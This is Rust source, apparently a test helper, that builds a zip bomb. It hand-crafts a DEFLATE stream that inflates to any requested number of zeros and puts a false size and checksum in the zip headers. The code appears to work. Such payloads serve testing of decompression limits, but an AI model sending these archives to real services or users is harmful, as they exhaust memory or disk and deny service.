//! A zip bomb, made bit by bit: a stream of zeros in which two bits stand for 258 bytes.

/// A zip of one entry that claims to be small and inflates to at least `size` zeros.
pub fn of(name: &str, size: u64) -> Vec<u8> {
    let packed = zeros(size);
    let mut zip = Vec::new();
    let mut shared = Vec::new();
    for number in [20_u16, 0, 8, 0, 0x5a21] {
        shared.extend(number.to_le_bytes());
    }
    // The checksum is wrong and the size a lie: nobody shall get far enough to find out.
    for number in [0, u32::try_from(packed.len()).unwrap(), 1_000_u32] {
        shared.extend(number.to_le_bytes());
    }
    shared.extend(u16::try_from(name.len()).unwrap().to_le_bytes());
    shared.extend([0, 0]);
    zip.extend(b"PK\x03\x04");
    zip.extend(&shared);
    zip.extend(name.as_bytes());
    zip.extend(packed);
    let directory = zip.len();
    zip.extend(b"PK\x01\x02\x14\x03");
    zip.extend(&shared);
    zip.extend([0; 14]);
    zip.extend(name.as_bytes());
    let length = zip.len() - directory;
    zip.extend(b"PK\x05\x06\0\0\0\0\x01\0\x01\0");
    for number in [length, directory] {
        zip.extend(u32::try_from(number).unwrap().to_le_bytes());
    }
    zip.extend([0, 0]);
    zip
}

/// A deflated block (RFC 1951, 3.2.7) of one zero and then copies of it, 258 at a time. Its codes are chosen so that such a
/// copy is the bits `00`: the stream is mostly nothing.
fn zeros(size: u64) -> Vec<u8> {
    let mut bits = Bits::default();
    bits.number(0b101, 3); // the last block, with codes of its own
    bits.number(29, 5); // 286 codes for literals and lengths
    bits.number(0, 5); // 1 for distances
    bits.number(14, 4); // 18 lengths of the codes for code lengths, in the format's odd order
    for symbol in [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1] {
        bits.number(
            match symbol {
                18 => 1,
                1 | 2 => 2,
                _ => 0,
            },
            3,
        );
    }
    let many_unused = |bits: &mut Bits, count: u32| {
        bits.code("0"); // symbol 18
        bits.number(count - 11, 7);
    };
    bits.code("11"); // literal 0: two bits
    many_unused(&mut bits, 138);
    many_unused(&mut bits, 117);
    bits.code("11"); // end of block: two bits
    many_unused(&mut bits, 28);
    bits.code("10"); // length 258: one bit
    bits.code("10"); // distance 1: one bit
    bits.code("10"); // the zero
    let copies = size.div_ceil(258);
    // Four copies a byte, all bits zero; what is left of the byte begun is zero as well.
    let mut stream = bits.bytes;
    stream.resize(stream.len() + usize::try_from(copies / 4 + 1).unwrap(), 0);
    stream
}

#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    used: u32,
}

impl Bits {
    fn bit(&mut self, bit: bool) {
        if self.used.is_multiple_of(8) {
            self.bytes.push(0);
        }
        if let Some(last) = self.bytes.last_mut() {
            *last |= u8::from(bit) << (self.used % 8);
        }
        self.used += 1;
    }

    fn number(&mut self, number: u32, width: u32) {
        (0..width).for_each(|at| self.bit(number >> at & 1 == 1));
    }

    fn code(&mut self, code: &str) {
        code.bytes().for_each(|digit| self.bit(digit == b'1'));
    }
}
